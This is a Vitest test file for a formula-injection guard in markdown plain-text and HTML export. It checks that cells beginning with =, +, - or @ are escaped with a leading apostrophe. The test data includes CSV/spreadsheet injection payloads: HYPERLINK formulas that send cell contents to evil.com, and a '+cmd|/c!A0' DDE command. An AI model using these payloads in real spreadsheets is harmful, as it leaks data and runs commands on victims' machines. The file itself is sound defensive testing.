import { describe, expect, it } from 'vitest';
import type { Block } from '../../../lib/markdown/nodes.ts';
import { parseDocument } from '../../../lib/markdown/parse-document.ts';
import { isFormula } from '../../../lib/output/formula-guard.ts';
import { documentToHtml } from '../../../lib/output/to-html.ts';
import { documentToPlain } from '../../../lib/output/to-plain.ts';

describe('a formula', () => {
  it.each([
    '=HYPERLINK("https://evil.com/"&A1;"a")',
    '+cmd|/c!A0',
    '-2+3+cmd|/c!A0',
    '@SUM(1+1)',
    '＝SUM(1)',
    '=1',
    ' =1',
    '"=1+1"',
    '" +cmd|/c!A0"',
  ])('is %s in a cell', (words) => expect(isFormula(words)).toBe(true));

  it.each(['', 'a=b', '-', '–', '-5', '+49 89 12', '-1,234.5 %', '@Ann Lee', '@', "'=1", '1-2'])('is not %j', (words) =>
    expect(isFormula(words)).toBe(false),
  );

  it('is found in linear time', () => {
    for (const words of ['"'.repeat(1_000_000), `@${'a '.repeat(500_000)}!`, `-${'1'.repeat(1_000_000)}x`])
      expect(isFormula(words)).toBe(!words.startsWith('"'));
  });
});

describe('a line of prose', () => {
  const source = '# =HYPERLINK("https://e.example/?"&A1,"x")\n\nAs said:\n=sum(A1)\n\n- =IMPORTXML(A1)';

  it.each(['= 5 people', '=> next', '-margin(x)', '@Ann (CEO)', '=A1', 'f(x)=g(x)'])('is as it is: %s', (words) => {
    const blocks: Block[] = [{ type: 'paragraph', children: [{ type: 'text', text: words }] }];
    expect(documentToPlain(blocks)).toBe(words);
  });

  it('calls no function where it is pasted', () => {
    expect(
      documentToPlain(parseDocument(source))
        .split('\n')
        .filter((line) => line.startsWith("'=")),
    ).toHaveLength(2);
    const html = documentToHtml(parseDocument(`${source}\n\n**a\n=SUM(1)**\n\n> =SUM(1)`));
    for (const place of ['<h1>', '<br>', '<li>', '<strong>a<br>', '<blockquote><p>'])
      expect(html).toMatch(new RegExp(`${place}&#39;=`));
  });
});

describe('a table', () => {
  const table = '| =A1 | **@SUM(1)** |\n|---|---|\n| `=1` | -5 |\n| a | =b |\n| [=c](https://a.com) | `"=d"` |';
  const blocks = parseDocument(table);

  it('is no formula in plain text', () =>
    expect(documentToPlain(blocks)).toBe(`'=A1\t'@SUM(1)\n'=1\t-5\na\t'=b\n'=c (https://a.com/)\t'"=d"`));

  it('is no formula in HTML', () => {
    const cells = [...documentToHtml(blocks).matchAll(/<t[hd]>(.*?)<\/t[hd]>/g)].map(([, cell]) => cell);
    expect(cells).toEqual([
      '&#39;=A1',
      '&#39;<strong>@SUM(1)</strong>',
      '&#39;<code>=1</code>',
      '-5',
      'a',
      '&#39;=b',
      '&#39;<a href="https://a.com/">=c</a>',
      '&#39;<code>&quot;=d&quot;</code>',
    ]);
  });
});
